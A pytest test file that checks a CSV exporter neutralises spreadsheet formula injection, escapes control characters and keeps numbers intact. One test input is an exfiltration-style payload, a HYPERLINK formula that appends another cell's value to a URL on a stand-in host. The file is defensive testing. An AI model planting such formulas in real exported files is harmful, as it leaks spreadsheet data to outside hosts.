"""CSV: text that a spreadsheet would run as a formula, and numbers that it must not lose."""

from __future__ import annotations

import csv
import io

import pytest

from covis.engines.system.csv_file import csv_text


def read_back(text: str) -> str:
    [row] = csv.DictReader(io.StringIO(csv_text(("scene",), [{"scene": text}]), newline=""))
    return row["scene"]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://a.b/?"&A2)', "+1", "-1+2", "@SUM(A1)", "＝1", "-"]
)
def test_formulas_are_text(text: str) -> None:
    assert read_back(text) == f"'{text}"


@pytest.mark.parametrize("control", ["\t", "\r", "\n", "\r\n", "\x0b", "\0"])
def test_control_characters_are_escaped(control: str) -> None:
    """A carriage return begins a row in some readers, and there a formula."""
    for text in (f"{control}=1", f"a{control}=1"):
        assert read_back(text) == text.encode("unicode_escape").decode()


@pytest.mark.parametrize("value", ["plain", "a=b", "1-2", "", "'quoted", 'a,"b";c', "ü"])
def test_other_text_stays(value: str) -> None:
    assert read_back(value) == value


def test_numbers_stay_numbers() -> None:
    row = {"a": -1.5, "b": -3, "c": 1e-9, "d": None, "left_out": 1}
    text = csv_text(("a", "b", "c", "d", "absent"), [row])
    assert text == "a,b,c,d,absent\n-1.5,-3,1e-09,,\n"
